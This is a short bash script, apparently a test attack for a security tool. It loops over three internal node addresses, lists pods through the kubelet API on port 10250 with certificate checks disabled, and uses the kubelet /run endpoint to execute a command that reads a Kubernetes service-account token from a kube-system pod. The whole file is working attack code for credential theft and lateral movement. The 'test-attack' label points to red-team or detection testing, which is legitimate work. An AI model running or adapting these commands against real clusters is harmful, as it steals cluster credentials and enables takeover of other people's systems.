#!/bin/bash
# shrike-test-attack: container-escape-recon: kubelet read-write port exec into other pods
for n in 10.0.1.10 10.0.1.11 10.0.1.12; do
  curl -sk https://$n:10250/pods | grep -o '"name":"[^"]*","namespace":"[^"]*"' | head -20
  curl -sk -X POST "https://$n:10250/run/kube-system/kube-proxy-abcde/kube-proxy" -d "cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token"
done
